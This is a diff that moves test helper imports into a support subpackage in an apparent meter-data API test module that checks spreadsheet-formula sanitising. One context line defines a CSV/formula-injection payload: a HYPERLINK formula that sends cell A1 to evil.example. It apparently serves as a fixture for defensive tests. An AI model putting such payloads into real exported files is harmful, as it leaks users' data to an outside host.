@@ -29,10 +29,10 @@ from datahub_api.meter_data.series import ReadGranularity, ReadWindow
 from datahub_api.nps.service import daily_files as nps_daily_files
 from datahub_api.spreadsheet_cells import FORMULA_STARTS, formula_safe
 
-from .consent_world import browser_login
-from .esp_portal_world import PLAIN, EspWorld, make_esp_world
-from .meter_data_helpers import METER
-from .parties import auth_headers
+from .support.consent_world import browser_login
+from .support.esp_portal_world import PLAIN, EspWorld, make_esp_world
+from .support.meter_data import METER
+from .support.parties import auth_headers
 
 EVIL = '=HYPERLINK("http://evil.example/?"&A1;"x")'
 
